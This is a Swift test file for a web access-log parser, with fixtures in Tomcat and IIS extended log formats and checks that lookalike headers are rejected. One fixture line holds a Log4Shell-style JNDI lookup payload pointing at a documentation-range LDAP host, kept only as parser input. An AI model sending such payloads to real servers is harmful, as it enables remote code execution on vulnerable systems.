import Evidence
import Testing

@testable import LogParse

@Suite struct ExtendedLogTests {
  @Test func tomcatAndIIS() throws {
    let tomcat = """
      #Fields: date time c-ip cs-method cs-uri sc-status bytes time-taken cs(User-Agent) x-H(remoteUser)
      #Version: 2.0
      2025-11-25 04:10:01 203.0.113.9 GET /x?q=${jndi:ldap://198.51.100.7:1389/a} 404 682 0.003 'curl/7.68.0' -
      2025-11-25 04:10:02 203.0.113.9 POST /login 200 - 0.001 "Mozilla ""x"" y" "bob"
      2025-11-25 04:10:02 203.0.113.9 POST

      """
    let dump = try EventDump(tomcat, path: "access.log")
    #expect(dump.format == "web.extended" && HostileInputTests.isWhole(dump, tomcat.utf8.count))
    #expect(dump.events.map { $0.text("remote_address") } == ["203.0.113.9", "203.0.113.9"])
    #expect(dump.events.map { $0.text("path") } == ["/x", "/login"] && dump.events.last?.text("user") == "bob")
    #expect(dump.events.first?.text("query") == "q=${jndi:ldap://198.51.100.7:1389/a}")
    #expect(dump.events.map { $0.text("user_agent") } == ["curl/7.68.0", "Mozilla \"x\" y"])
    #expect(dump.events.first?.time == Timestamp(iso8601: "2025-11-25T04:10:01Z"))
    #expect(dump.events.map { $0.integer("status") } == [404, 200])
    #expect(dump.coverages.map(\.state) == [.parsed, .skipped])

    let iis = """
      #Software: Microsoft Internet Information Services 10.0
      #Date: 2025-11-25 04:00:00
      #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status
      2025-11-25 04:10:01 10.0.0.5 GET /a x=1 443 - 203.0.113.9 Mozilla/5.0+(Windows) 200
      #Fields: time c-ip cs-method cs-uri-stem
      04:10:02 203.0.113.9 GET /b

      """
    let other = try EventDump(iis, path: "u_ex251125.log")
    #expect(other.format == "web.extended" && other.events.map { $0.text("uri") } == ["/a?x=1", "/b"])
    #expect(other.events.map { $0.time == nil } == [false, true] && other.events.first?["user"] == nil)
  }

  @Test func lookalikes() {
    for text in [
      "#Fields: name size\nx 1\n", "# Fields: cs-method\n", "x\n#Fields: cs-method c-ip\n",
      "#Version: 1.0\n#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status\n",
    ] {
      #expect(EventDump.recognize(Array(text.utf8), path: "x.log")?.name != "web.extended", "\(text)")
    }
  }
}
